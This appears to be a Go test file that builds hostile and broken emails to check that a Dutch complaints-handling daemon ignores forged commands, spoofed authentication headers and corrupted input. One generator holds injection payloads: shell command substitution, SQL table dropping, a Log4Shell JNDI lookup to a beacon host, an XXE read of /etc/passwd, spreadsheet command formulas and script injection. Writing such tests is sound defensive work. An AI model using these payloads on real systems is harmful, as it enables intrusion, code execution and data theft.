package hostile

import (
	"fmt"
	"strings"
)

// intruders are about commands, numbers and proofs that somebody invents.
func intruders() []kind {
	return []kind{
		{"commands of a stranger", "what he writes is his complaint and no command", 12, Answered, func(d *draw, i int) []byte {
			return d.mail("Subject: "+pick(i, "#afgehandeld", "#neem [K2026-100000]", "Re: [K2026-100000] #ingetrokken", "#registreer Jan <x@"+Victim+">", "#ja ABCDEFGH", "＃afgehandeld", "=?utf-8?Q?=23?=help",
				"FW: FW: #status", "# afgehandeld", "#overzicht #help #status", "[K2026-100000][K2026-100001]", "Fwd: #antwoord [K2026-100000]"), "Code: ABCDEFGHJKMNPQRSTVWXYZ0123\n\nTekst. #afgehandeld\n#heropen")
		}},
		{"commands in the name of staff", "From proves nothing", 4, Challenged, func(d *draw, i int) []byte {
			return d.mail("From: <"+d.o.Staff+">\nAuthentication-Results: mx.kwaad.example; dmarc=pass header.from=academie.example\nX-Klachtd-Proof: pass\nX-MS-Exchange-Organization-AuthAs: Internal\nSubject: "+
				pick(i, "#registreer Jan <x@"+Victim+">", "#registreer Piet <y@"+Victim+">", "#registreer Kees <z@"+Victim+">", "#registreer Ans <a@"+Victim+">"), "Omschrijving: verzonnen.")
		}},
		{"fields that only we write", "whoever believes them believes the sender (security.md 7)", 8, Answered, func(d *draw, i int) []byte {
			return d.mail(pick(i, "X-Klachtd-Case: 1", "x-klachtd-token: a\n b", "X-Klachtd-Proof: pass\nX-Klachtd-Person: "+d.o.Staff, "Authentication-Results: mx.academie.example; dmarc=fail", "ARC-Seal: i=1; cv=pass\nARC-Authentication-Results: i=1; x; dmarc=pass",
				"Authentication-Results: "+strings.Repeat("(", 15_000), "Received-SPF: fail\nX-MS-Exchange-Organization-AuthAs: Internal", "DKIM-Signature: v=1; a=rsa-sha256; d=academie.example; s=a; h=from; bh=x; b="+strings.Repeat("A", 9000)), "Tekst.")
		}},
		{"answers to nothing", "an invented id leads nowhere", 5, Answered, func(d *draw, i int) []byte {
			return d.mail(pick(i, "In-Reply-To", "References", "In-Reply-To", "References", "X-Microsoft-Original-Message-ID")+fmt.Sprintf(": <verzonnen%d@academie.example>\nSubject: %s", i, pick(i, "Re: Je klacht is ontvangen [K2026-100000]", "Re: klacht", "AW: Nieuwe klacht [K2026-999999]")), "Tekst.")
		}},
		{"languages of programs", "what a template, a shell or a database would carry out", 10, Answered, func(d *draw, i int) []byte {
			evil := pick(i, "{{.}}{{printf \"%s\" .}}", "%s%n%x%!d(MISSING)", "$(reboot) `reboot`", "'; DROP TABLE message; --", "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "${jndi:ldap://"+d.o.Beacon+"/a}", "\\u0000\\x00", "]]><!ENTITY x SYSTEM \"file:///etc/passwd\">", "[klik](javascript:alert(1))")
			return d.mail("From: \""+strings.ReplaceAll(strings.ReplaceAll(evil, `\`, `\\`), `"`, `\"`)+"\" <"+d.from+">\nSubject: "+evil, evil)
		}},
		{"forms", "labels that ask for more than a form has", 6, Answered, func(d *draw, i int) []byte {
			return d.mail("Subject: Klachtenformulier", pick(i, "Naam: #afgehandeld", "Telefoon: "+strings.Repeat("0", 100_000), "Naam: Jan\nNaam: Piet\nNaam: Kees", "E-mail: x@"+Victim, strings.Repeat("Cursus: a\n", 30_000), "Ernst: ernstig\nBehandelaar: "+d.o.Staff))
		}},
	}
}

// debris is what is no mail any more, or never was.
func debris() []kind {
	return []kind{
		{"no bytes", "a server may hand over nothing", 1, Unanswered, func(*draw, int) []byte { return nil }},
		{"noise", "bytes of a broken disk", 8, Unanswered, func(d *draw, i int) []byte { return d.noise(100 << (2 * (i % 5))) }},
		{"words without a header", "they are somebody's words all the same", 3, Unanswered, func(d *draw, i int) []byte {
			return fmt.Appendf(nil, "\r\n%s kenmerk %d", strings.Repeat(pick(i, "Het was koud. ", "\r\n", "\t"), 1<<(4*i)), d.serial)
		}},
		{"header alone", "and the connection was cut", 4, Answered, func(d *draw, i int) []byte {
			head, _, _ := strings.Cut(string(d.mail("X-Kenmerk: "+d.word(20), "")), "\r\n\r\n")
			return []byte(head + pick(i, "", "\r\n", "\r\n\r\n", "\r"))
		}},
		{"out of an mbox", "its first line is no field", 2, Answered, func(d *draw, i int) []byte {
			return append([]byte(pick(i, "From x@"+Victim+" Mon Nov  2 10:00:00 2026\r\n", ">From x@"+Victim+" Mon Nov  2 10:00:00 2026\r\nFrom - Mon Nov  2 10:00:00 2026\r\n")), d.mail("X-A: b", "Tekst.")...)
		}},
		{"cut short", "a mail that ends anywhere", 12, Answered, func(d *draw, _ int) []byte {
			whole := d.whole()
			return whole[:d.IntN(len(whole)-safeHead)+safeHead]
		}},
		{"damaged", "a mail in which bytes were turned over", 32, Answered, func(d *draw, i int) []byte {
			whole := d.whole()
			for range 1 << (i % 8) {
				whole[d.IntN(len(whole)-safeHead)+safeHead] = pick(d.IntN(9), "\x00", "\n", "\r", "\"", "-", ";", "=", "\xff", ":")[0]
			}
			return whole
		}},
	}
}

// safeHead is how far debris leaves a mail alone: who wrote it to whom stays readable.
const safeHead = 220

// whole is a mail with a bit of everything. What is damaged of it begins below
// From, To, Date, Message-ID and Subject, which a field of no meaning makes longer
// than safeHead.
func (d *draw) whole() []byte {
	return d.mixed("mixed; x-kenmerk="+d.word(60),
		"Content-Type: multipart/alternative; boundary=binnen\n\n--binnen\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\nHet =C3=A9chte lokaal was koud.\n--binnen\nContent-Type: text/html\n\n<p>Het <b>lokaal</b> was koud.</p>\n--binnen--",
		"Content-Type: image/png; name=\"=?utf-8?Q?f=C3=B3to?=.png\"\nContent-Disposition: inline\nContent-Id: <a@b>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgoAAAANSUhEUg==",
		"Content-Type: message/rfc822\n\nFrom: <binnen@kwaad.example>\nSubject: binnen\n\nTekst.",
		"Content-Type: application/pdf\nContent-Disposition: attachment; filename*0*=utf-8''br%C3%AC; filename*1=ef.pdf\n\n%PDF")
}
